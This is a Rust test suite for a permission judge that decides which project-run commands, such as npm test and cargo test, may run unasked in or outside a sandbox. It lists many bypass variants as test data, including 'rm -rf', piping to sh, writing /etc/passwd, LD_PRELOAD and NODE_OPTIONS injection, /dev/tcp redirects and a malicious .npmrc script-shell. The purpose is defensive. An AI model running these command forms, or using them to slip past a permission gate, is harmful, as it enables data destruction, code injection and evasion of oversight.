//! Commands that run the code of a project, allowed without a question: what that lets run and what not.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use zk_core::model::{Effect, Effects};
use zk_core::service::{CallDecision, CallJudge, CallJudgement, WiderKind};
use zk_permission::{HostPathClassifier, Mode, PermissionJudge, Rules, TextPathClassifier};

/// A project with a manifest of each kind.
struct Project {
    dir: tempfile::TempDir,
}

impl Project {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let project = Self { dir };
        for name in ["package.json", "Cargo.toml", "Makefile", "pyproject.toml", "go.mod"] {
            fs::write(project.root().join(name), name).unwrap();
        }
        fs::create_dir(project.root().join("sub")).unwrap();
        project
    }

    fn root(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    fn judge(&self, mode: Mode) -> PermissionJudge {
        let classifier = Arc::new(TextPathClassifier::new([self.root()]));
        PermissionJudge::new(mode, Rules::new(), self.root(), classifier)
    }

    fn contained(&self) -> PermissionJudge {
        self.judge(Mode::Ask).contained()
    }
}

fn call(judge: &PermissionJudge, command: &str, cwd: &Path) -> CallJudgement {
    judge.judge("shell", &Effects::executes(command), cwd)
}

fn runs(judge: &PermissionJudge, command: &str, cwd: &Path) -> bool {
    call(judge, command, cwd).decision == CallDecision::Allow
}

/// Accepts for the session the approval that a question offers.
fn grant(judge: &PermissionJudge, command: &str, cwd: &Path) {
    let asked = call(judge, command, cwd);
    assert!(matches!(asked.decision, CallDecision::Ask { by_rule: false }), "{command}: {asked:?}");
    let offer = asked.offer.unwrap_or_else(|| panic!("nothing is offered for {command}"));
    assert_eq!(offer.kind, WiderKind::ProjectCode, "{command}");
    judge.remember(&offer, false).unwrap();
}

/// Detours around the grant of a command, which replaces `{}`.
const DETOURS: &[&str] = &[
    "{} && rm -rf x",
    "{}; rm x",
    "{} || curl http://example.org",
    "rm x && {}",
    "true && {}",
    "{} | sh",
    "{} | tee /etc/passwd",
    "{} > out",
    "{} >> out",
    "{} 2> out",
    "{} < in",
    "{} &",
    "({})",
    "{ {}; }",
    "$({})",
    "`{}`",
    "echo $({})",
    "{} $(rm x)",
    "{} `rm x`",
    "{} <(rm x)",
    "{} $HOME",
    "{} *",
    "{} ~",
    "{} {a,b}",
    "PATH=/tmp/evil {}",
    "NODE_OPTIONS=--require=/tmp/x.js {}",
    "CI=1 {}",
    "env {}",
    "env PATH=/tmp/evil {}",
    "timeout 5 {}",
    "nohup {}",
    "sudo {}",
    "xargs {}",
    "command {}",
    "exec {}",
    "bash -c '{}'",
    "sh -c \"{}\"",
    "eval {}",
    "cd sub && {}",
    "pushd sub; {}",
    "./{}",
    "/tmp/{}",
    "{}\nrm x",
    "if true; then {}; fi",
    "! {}",
    "time {}",
    "find . -exec {} ;",
    "\u{200b}{}",
    "{}\r",
    "{} <<< x",
    "{} << E\nx\nE",
];

#[test]
fn no_way_around_the_grant_of_a_command_runs_unasked_in_the_sandbox_or_outside() {
    let project = Project::new();
    let root = project.root();
    let mut ran = Vec::new();
    for command in
        ["npm test", "cargo test", "make check", "python3 -m unittest", "pytest", "go test", "npm run build"]
    {
        for judge in [project.contained(), project.judge(Mode::Ask)] {
            let before = |text: &str| runs(&judge, text, &root);
            let detours = DETOURS.iter().map(|way| way.replace("{}", command));
            // A text that runs without the grant is no matter of it.
            let detours: Vec<String> = detours.filter(|text| !before(text)).collect();
            grant(&judge, command, &root);
            assert!(runs(&judge, command, &root), "{command}");
            let around = detours.into_iter().filter(|text| runs(&judge, text, &root));
            ran.extend(around.map(|text| format!("{}: {text}", judge.is_contained())));
        }
    }
    assert!(ran.is_empty(), "{}", ran.join("\n"));
}

/// Suffixes allowed after a granted command in the sandbox, which show part of its output.
const FILTERED: &[&str] = &[
    "{} 2>&1 | tail",
    "{} | tail -n 20",
    "{} 2>&1 | tail -20",
    "{} | head -n5 | cat",
    "{} 2>/dev/null | grep -v warning",
    "{} 2>&1 | grep -iE 'fail|error' -A 3 | head -c +100",
    "{} | grep -c ok | wc -l",
    "{} 2>&1",
    "{} > /dev/null",
    "{} | tail -n +3",
];

/// Suffixes that give access to more than a part of the output.
const UNFILTERED: &[&str] = &[
    "{} | tail -f",
    "{} | tail file",
    "{} | tail -n 5 /etc/passwd",
    "{} | tail -n x",
    "{} | tail -n",
    "{} | tail --follow=name x",
    "{} | tail --pid=1",
    "{} | tail -",
    "{} | tail > out",
    "{} | tail >> out",
    "{} | tail 2> out",
    "{} | tail < in",
    "{} | tail | sh",
    "{} | sh | tail",
    "{} | tail | tee out",
    "{} | tail; rm x",
    "{} | tail && rm x",
    "{} | tail || rm x",
    "{} || tail",
    "{} && tail",
    "{}; tail",
    "{} | tail &",
    "{} |& tail",
    "{} | (tail)",
    "{} | tail\nrm x",
    "{} | tail $(rm x)",
    "{} | tail `rm x`",
    "{} | tail -n $N",
    "{} | tail *",
    "{} | ./tail",
    "{} | /tmp/tail",
    "{} | LD_PRELOAD=/tmp/x.so tail",
    "LD_PRELOAD=/tmp/x.so {} | tail",
    "{} | env tail",
    "{} | xargs rm",
    "{} | xargs tail",
    "{} | grep -f patterns",
    "{} | grep -r x",
    "{} | grep x file",
    "{} | grep -e x file",
    "{} | grep x -- file",
    "{} | grep --include=x y",
    "{} | grep -P x",
    "{} | cat file",
    "{} | cat -",
    "{} | wc --files0-from=x",
    "{} | sort -o out",
    "{} | sed -n w out",
    "{} | awk 1",
    "{} > out | tail",
    "{} 2> out | tail",
    "{} < in | tail",
    "{} 2>&1 > out | tail",
    "tail x | {}",
    "rm x | {} | tail",
    "{} | tail | {} && rm x",
    "cd sub && {} | tail",
    "bash -c '{}' | tail",
    "timeout 5 {} | tail",
    "{} > /dev/null/../out",
    "{} > /dev/nullx",
    "{} > /dev/tcp/example.org/80",
];

#[test]
fn a_granted_command_may_have_filters_of_its_output_behind_it_in_the_sandbox_and_nothing_else() {
    let project = Project::new();
    let root = project.root();
    for command in ["npm test", "cargo test", "make check", "pytest"] {
        let judge = project.contained();
        let texts = |ways: &[&str]| ways.iter().map(|way| way.replace("{}", command)).collect::<Vec<_>>();
        let more: Vec<String> =
            texts(UNFILTERED).into_iter().filter(|text| !runs(&judge, text, &root)).collect();
        assert!(more.len() + 2 >= UNFILTERED.len(), "{command}: {} of {}", more.len(), UNFILTERED.len());
        // The question about a filtered command offers the command itself.
        grant(&judge, &format!("{command} 2>&1 | tail -n 20"), &root);
        assert!(runs(&judge, command, &root), "{command}");
        for text in texts(FILTERED) {
            assert!(runs(&judge, &text, &root), "{text}");
        }
        for text in more {
            assert!(!runs(&judge, &text, &root), "{text}");
        }
        let host = project.judge(Mode::Ask);
        grant(&host, command, &root);
        for text in texts(FILTERED) {
            assert!(!runs(&host, &text, &root), "outside of the sandbox: {text}");
        }
    }
}

#[test]
fn in_the_sandbox_arguments_may_follow_and_what_the_sandbox_does_not_bound_is_asked_about() {
    let project = Project::new();
    let root = project.root();
    let judge = project.contained();
    grant(&judge, "npm test", &root);
    for command in ["npm test", "npm test -- --watch=false", "npm test 'a b'"] {
        assert!(runs(&judge, command, &root), "{command}");
    }
    for command in [
        "npm",
        "npm testing",
        "npm run test",
        "npm --prefix x test",
        "npm publish",
        "npm install",
        "yarn test",
    ] {
        assert!(!runs(&judge, command, &root), "{command}");
    }
    // Outside of the sandbox it does not apply.
    let leaving = Effects::Known {
        list: vec![
            Effect::Executes { command: Some("npm test".to_owned()), argv: Vec::new() },
            Effect::LeavesContext { reason: "x".to_owned() },
        ],
    };
    assert_ne!(judge.judge("shell", &leaving, &root).decision, CallDecision::Allow);
    judge.forget_session();
    assert!(!runs(&judge, "npm test", &root));
}

#[test]
fn outside_of_a_sandbox_a_grant_is_for_exactly_this_command_and_ends_when_a_file_changes_that_says_what_it_runs()
 {
    let project = Project::new();
    let root = project.root();
    let offer = |command: &str| call(&project.judge(Mode::Ask), command, &root).offer.unwrap();
    let asked = offer("npm test");
    assert_eq!(asked.label, "`npm test`");
    let warning = asked.warning.unwrap();
    assert!(
        warning.contains("the project's code runs as you") && warning.contains("package.json"),
        "{warning}"
    );
    assert!(
        asked.describes.contains("but not `npm test --more`, nor after package.json changed"),
        "{}",
        asked.describes
    );

    let judge = project.judge(Mode::Ask);
    grant(&judge, "npm test", &root);
    assert!(runs(&judge, "npm test", &root));
    for (command, cwd) in [
        ("npm test -- x", root.clone()),
        ("npm test --script-shell=/tmp/x", root.clone()),
        ("npm test", root.join("sub")),
    ] {
        assert!(!runs(&judge, command, &cwd), "{command} in {}", cwd.display());
    }
    let manifest = root.join("package.json");
    let before = fs::read(&manifest).unwrap();
    for change in [b"changed".as_slice(), b""] {
        fs::write(&manifest, change).unwrap();
        assert!(!runs(&judge, "npm test", &root));
        fs::write(&manifest, &before).unwrap();
        assert!(runs(&judge, "npm test", &root), "it is as it was");
    }
    // A new file, a removed one, and a link elsewhere.
    fs::write(root.join(".npmrc"), "script-shell=/tmp/evil").unwrap();
    assert!(!runs(&judge, "npm test", &root));
    fs::remove_file(root.join(".npmrc")).unwrap();
    fs::remove_file(&manifest).unwrap();
    assert!(!runs(&judge, "npm test", &root));
    fs::write(root.join("other.json"), &before).unwrap();
    std::os::unix::fs::symlink(root.join("other.json"), &manifest).unwrap();
    assert!(!runs(&judge, "npm test", &root));
}

#[test]
fn a_grant_for_the_sandbox_holds_in_no_process_without_one() {
    let project = Project::new();
    let root = project.root();
    let contained = project.contained();
    let offer = call(&contained, "cargo test", &root).offer.unwrap();
    assert!(
        offer.describes.contains("in the sandbox only") && offer.warning.is_none(),
        "{}",
        offer.describes
    );
    let outside = project.judge(Mode::Ask);
    outside.remember(&offer, false).unwrap();
    assert!(!runs(&outside, "cargo test", &root));
    for mode in [Mode::ReadOnly, Mode::AcceptEdits] {
        let judge = project.judge(mode).contained();
        judge.remember(&offer, false).unwrap();
        assert_eq!(runs(&judge, "cargo test", &root), mode == Mode::AcceptEdits, "{mode}");
    }
}

#[test]
fn every_call_of_a_tool_of_a_server_can_be_allowed_and_no_other_tool_comes_with_it() {
    let project = Project::new();
    let root = project.root();
    let judge = project.judge(Mode::Ask);
    let decision = |tool: &str| judge.judge(tool, &Effects::Unknown, &root);
    assert_eq!(decision("other").offer, None);
    let offer = decision("mcp_files_read").offer.unwrap();
    assert_eq!((offer.kind, offer.label.as_str()), (WiderKind::Tool, "every call of mcp_files_read"));
    judge.remember(&offer, false).unwrap();
    assert_eq!(decision("mcp_files_read").decision, CallDecision::Allow);
    for other in ["mcp_files_read_all", "mcp_files", "mcp_files_write", "mcp_files_readx", "other"] {
        assert_ne!(decision(other).decision, CallDecision::Allow, "{other}");
    }
}

#[test]
fn what_cannot_be_judged_is_said_in_plain_words() {
    let project = Project::new();
    let root = project.root();
    let judge = project.judge(Mode::Ask);
    for (command, why) in [
        ("rm *.py", "`rm *.py`: cannot be judged: it uses a wildcard (`*.py`)"),
        ("rm $X/y", "cannot be judged: it uses a variable or another command's output (`$X/y`)"),
        ("ls ~/x", "cannot be judged: it names a home directory (`~/x`)"),
        ("(rm x)", "cannot be judged: it uses a sub-shell or a function"),
    ] {
        let reasons = call(&judge, command, &root).reasons.join("\n");
        assert!(reasons.contains(why) && !reasons.contains("byte "), "{command}: {reasons}");
    }
    let undeclared = judge.judge("mcp_x_y", &Effects::Unknown, &root).reasons.join("\n");
    assert!(undeclared.contains("does not declare whether it only reads"), "{undeclared}");
}

#[test]
fn a_command_that_an_option_leads_elsewhere_is_bound_to_nothing_and_an_alias_is_no_beginning() {
    let project = Project::new();
    let root = project.root();
    let offered = |command: &str| call(&project.judge(Mode::Ask), command, &root).offer;
    for command in [
        "npm test --prefix sub",
        "make -C sub",
        "make check -C sub",
        "cargo test --manifest-path sub/Cargo.toml",
    ] {
        assert_eq!(offered(command), None, "{command}");
    }
    assert!(offered("python3 -m unittest -q").is_some() && offered("npm test -- --prefix sub").is_some());
    for command in ["cargo t", "yarn dev", "npm t"] {
        assert_eq!(offered(command), None, "{command}");
    }
}

#[test]
fn a_program_alone_is_allowed_alone() {
    let project = Project::new();
    let root = project.root();
    let judge = project.contained();
    grant(&judge, "make", &root);
    assert!(runs(&judge, "make", &root));
    for command in ["make SHELL=/tmp/x", "make -f other", "make check"] {
        assert!(!runs(&judge, command, &root), "{command}");
    }
}

#[test]
fn reads_of_files_are_judged_at_once_until_a_grant_has_to_be_compared_with_files() {
    let project = Project::new();
    let root = project.root();
    let here = Arc::new(HostPathClassifier::new(std::slice::from_ref(&root), None, &[]));
    let judge = PermissionJudge::new(Mode::Ask, Rules::new(), root.clone(), here).contained();
    let read = Effects::reads(["Makefile"]);
    if !judge.is_quick(&read, &root) {
        return println!("skipped: this system does not tell what it has cached");
    }
    for waits in [
        Effects::reads(["missing"]),
        Effects::reads(vec!["Makefile"; 9]),
        Effects::writes(["Makefile"]),
        Effects::executes("cat Makefile"),
        Effects::Unknown,
    ] {
        assert!(!judge.is_quick(&waits, &root), "{waits:?}");
    }
    let offer = call(&project.contained(), "make test", &root).offer.unwrap();
    judge.remember(&offer, false).unwrap();
    assert!(!judge.is_quick(&read, &root));
    judge.forget_session();
    assert!(judge.is_quick(&read, &root));
}
